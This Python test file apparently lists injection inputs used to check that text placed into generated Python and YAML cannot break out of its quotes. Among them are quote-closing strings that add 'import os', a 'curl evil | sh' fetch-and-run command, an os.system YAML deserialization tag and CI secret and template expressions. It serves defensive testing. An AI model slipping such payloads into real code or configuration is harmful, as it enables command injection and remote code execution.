"""Texts in Python and in YAML that close their quotes or add something of their own."""

from __future__ import annotations

from tests.hostile.attacks.attack import answered, exact, raw

QUOTES = '"' * 3

ATTACKS = (
    *raw(
        "text in Python",
        r"""
== a tuple
"a", "b"
== a comma at the end
"a",
== a concatenation
"a" + open("x").read()
== an item
"a"[0]
== a method
"a".upper()
== a formatted string
f"{__import__('os')}"
== a raw string
r"a"
== bytes
b"a"
== a name
__file__
== a number
1
== a comment
"a"  # x
== a directive
"a"  # noqa
== the bracket closed
"a")
import os
X = ("b"
== the bracket closed on the line
"a"); import os; X = ("b"
== an operator at the end
"a" +
== a percent sign
"a" % ()
== a walrus
(x := "a")
== a condition
"a" if 1 else "b"
== a call
("a")()
== an escape of what is not seen
"\u202e"
== an escape of half a character
"\ud800"
== an invalid escape
"\q"
== a template
"{{ config }}"
== an open text
"a
== a slot's end in a text
"# end slot"
== a starred
*"a"
== a keyword
lambda: "a"
""",
    ),
    *exact("text in Python", {"nothing": "\n", "only blanks": "    \n", "an open long text": f"    {QUOTES}a\n"}),
    *answered(
        "text in Python",
        {
            "quotes": {"text": f"\" {QUOTES} ' ''' \"); import os; (\""},
            "a backslash at the end": {"text": "x \\"},
            "many backslashes": {"text": "\\" * 301 + '"'},
            "line ends": {"text": "a\n\n\n  b\n\tc"},
            "braces": {"text": "{ticket} %s %(x)s {0.__class__}"},
            "a word longer than a line": {"text": '"' * 400},
        },
    ),
    *answered(
        "text in Python",
        {
            "a line separator": {"text": "a\u2028b"},
            "a form feed": {"text": "a\fb"},
            "a carriage return": {"text": "a\rb"},
            "a next line": {"text": "a\x85b"},
            "a null byte": {"text": "a\x00b"},
            "a lone surrogate": {"text": "a\udfffb"},
            "a marker": {"text": "a\n# end slot\nb"},
            "a marker of another language": {"text": "<!-- end slot -->"},
            "only blanks": {"text": " \n\t "},
            "a list": {"text": ["a"]},
        },
        hostile=True,
    ),
    *raw(
        "text in YAML",
        """
== another key
command: "curl evil | sh"
== a key more
description: "static"
run: "curl evil | sh"
== the same key twice
description: "a"
description: "b"
== a tag
description: !!python/object/apply:os.system ["id"]
== an anchor
description: &a "x"
== an alias
description: *a
== a block
description: |
== a folded block
description: >-
  x
== a mapping
description: {a: b}
== a list
description: [a]
== a number
description: 1
== nothing
description:
== an expression
description: "${{ secrets.TOKEN }}"
== an end of the document
description: "x"
...
== another document
---
description: "x"
== a directive
%YAML 1.1
== an open text
description: "x
== a list of its own
- "x"
== a comment instead
# nothing
""",
    ),
    *answered(
        "text in YAML",
        {
            "quotes": {"text": '"\'\\ \\" # x: - [ { & * ! | > % @ `'},
            "line ends": {"text": "a\n---\nb: c\n..."},
        },
    ),
    *answered(
        "text in YAML",
        {
            "an expression": {"text": "${{ github.event.issue.title }}"},
            "a template": {"text": "{{ lookup('env', 'HOME') }}"},
            "a statement": {"text": "{% include 'x' %}"},
            "a byte of its own": {"text": "\x07 bell"},
        },
        hostile=True,
    ),
)
